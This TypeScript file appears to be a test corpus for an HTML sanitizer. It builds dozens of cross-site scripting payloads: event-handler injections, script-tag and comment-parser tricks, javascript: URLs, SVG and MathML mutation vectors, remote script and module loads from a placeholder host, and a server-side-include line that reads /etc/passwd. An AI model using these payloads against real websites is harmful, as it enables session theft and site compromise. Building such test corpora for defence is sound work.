/** Scripts: by element, by handler, by address, through SVG and MathML, through parsers that differ. */

import { HOST, htmlAttacks, RUN, RUN_SHORT } from './attack.ts';

const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend ' +
  'ontoggle onpointerenter onpointerrawupdate onscroll onscrollend onresize onhashchange onpageshow ' +
  'onbeforeprint onmessage onstorage onwheel oncontextmenu oncopy ondrag onselectionchange ' +
  'onauxclick onbeforetoggle oncontentvisibilityautostatechange onsecuritypolicyviolation';

const ELEMENTS: Readonly<Record<string, string>> = {
  img: '<img src=x $=$$>',
  body: '<body $=$$>text</body>',
  svg: '<svg $=$$></svg>',
  details: '<details open $=$$><summary>x</summary>y</details>',
  input: '<input autofocus tabindex=1 $=$$>',
};

const handlers = Object.fromEntries(
  HANDLERS.split(' ').flatMap((handler, at) => {
    const [element = 'img', pattern = ''] = Object.entries(ELEMENTS)[at % 5] ?? [];
    return [[`${handler} on ${element}`, pattern.replace('$$', `"${RUN}"`).replace('$', handler)]];
  }),
);

const elements = {
  plain: `<script>${RUN}</script>`,
  'remote source': `<script src="http://${HOST}/script.js"></script>`,
  'mixed case': `<ScRiPt>${RUN}</sCrIpT>`,
  'slash for a space': `<script/x>${RUN}</script>`,
  'never closed': `<script>${RUN}`,
  'nested halves': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a NUL in the name': `<scr\0ipt>${RUN}</scr\0ipt>`,
  module: `<script type=module>import 'http://${HOST}/module.js'</script>`,
  importmap: `<script type=importmap>{"imports":{"a":"http://${HOST}/a.js"}}</script><script type=module>import 'a'</script>`,
  'speculation rules': `<script type=speculationrules>{"prefetch":[{"urls":["http://${HOST}/prefetch"]}]}</script>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${RUN_SHORT}>"></noscript>`,
  'template with a shadow': `<div><template shadowrootmode=open><img src=x onerror="${RUN}"></template></div>`,
  'after a comment that ends oddly': `<!--><script>${RUN}</script>-->`,
  'comment with a bang': `<!-- --!><script>${RUN}</script>`,
  'conditional comment': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'bogus comment': `<?xml version="1.0"?><script>${RUN}</script>`,
  cdata: `<![CDATA[<script>${RUN}</script>]]>`,
  'entity in the address': `<a href="jav&#x61;script:${RUN_SHORT}" id=a>x</a>`,
  plaintext: `<plaintext><script>${RUN}</script>`,
  xmp: `<xmp><p title="</xmp><img src=x onerror=${RUN_SHORT}>"></xmp>`,
  listing: `<listing>&lt;img onerror="${RUN_SHORT}" src=x&gt;</listing>`,
  'custom element': `<x-y is=x onclick="${RUN}" tabindex=0 autofocus onfocus="${RUN}">x</x-y>`,
  marquee: `<marquee onstart="${RUN}" onfinish="${RUN}">x</marquee>`,
  'video source': `<video><source onerror="${RUN}"></video>`,
  audio: `<audio src="http://${HOST}/a.mp3" autoplay onerror="${RUN}"></audio>`,
  'track of a video': `<video controls><track default src="http://${HOST}/t.vtt" oncuechange="${RUN}"></video>`,
  portal: `<portal src="http://${HOST}/p"></portal>`,
  fencedframe: `<fencedframe src="http://${HOST}/f"></fencedframe>`,
  'xml island': `<xml id=x><x><![CDATA[<img src=x onerror=${RUN_SHORT}>]]></x></xml>`,
  'server side include': '<!--#exec cmd="/bin/cat /etc/passwd"-->',
  isindex: `<isindex type=image src=1 onerror="${RUN}">`,
  keygen: `<keygen autofocus onfocus="${RUN}">`,
};

const svg = {
  'script inside': `<svg><script>${RUN}</script></svg>`,
  'script by href': `<svg><script href="http://${HOST}/s.js"/></svg>`,
  'script as data': `<svg><script xlink:href="data:,${RUN_SHORT}"/></svg>`,
  'animate a link': `<svg><a><animate attributeName=href values="javascript:${RUN_SHORT}"/><text y=20>x</text></a></svg>`,
  'set a handler': `<svg><set attributeName=onload to="${RUN_SHORT}"/></svg>`,
  'set a link': `<svg><a><set attributeName=href to="javascript:${RUN_SHORT}"/><text y=20>x</text></a></svg>`,
  'foreign object': `<svg><foreignObject><body onload="${RUN}"/></foreignObject></svg>`,
  use: `<svg><use href="http://${HOST}/x.svg#a"/></svg>`,
  'use as data': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN_SHORT}'/></svg>#x"/></svg>`,
  image: `<svg><image href="http://${HOST}/i.png" width=9 height=9 /></svg>`,
  feImage: `<svg><filter id=f><feImage href="http://${HOST}/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  'filter elsewhere': `<svg><rect filter="url(http://${HOST}/f.svg#f)" width=9 height=9 /></svg>`,
  handler: `<svg xmlns="http://www.w3.org/2000/svg"><handler type="application/ecmascript">${RUN}</handler></svg>`,
  'animate begins': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  'as a data picture': `<img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="http://${HOST}/d.png"/></svg>`)}">`,
  'style inside': `<svg><style>@import 'http://${HOST}/svg.css';</style></svg>`,
  'title breaks out': `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
  'cursor of old': `<svg><cursor xlink:href="http://${HOST}/cur.png"/></svg>`,
  mpath: `<svg><animateMotion><mpath href="http://${HOST}/m.svg#p"/></animateMotion></svg>`,
  'color profile': `<svg><color-profile xlink:href="http://${HOST}/icc"/></svg>`,
};

const math = {
  'maction link': `<math><maction actiontype="statusline#http://${HOST}" xlink:href="javascript:${RUN_SHORT}">x</maction></math>`,
  'href on an operator': `<math href="javascript:${RUN_SHORT}"><mi>x</mi></math>`,
  'text that is HTML': `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  'annotation as HTML': `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  'annotation that is not': `<math><annotation-xml encoding="application/x"><svg onload="${RUN}"></annotation-xml></math>`,
  'glyph by address': `<math><mglyph src="http://${HOST}/g.png"></math>`,
};

export const scriptAttacks = [
  ...htmlAttacks('handler', handlers),
  ...htmlAttacks('script', elements),
  ...htmlAttacks('svg', svg),
  ...htmlAttacks('mathml', math),
];
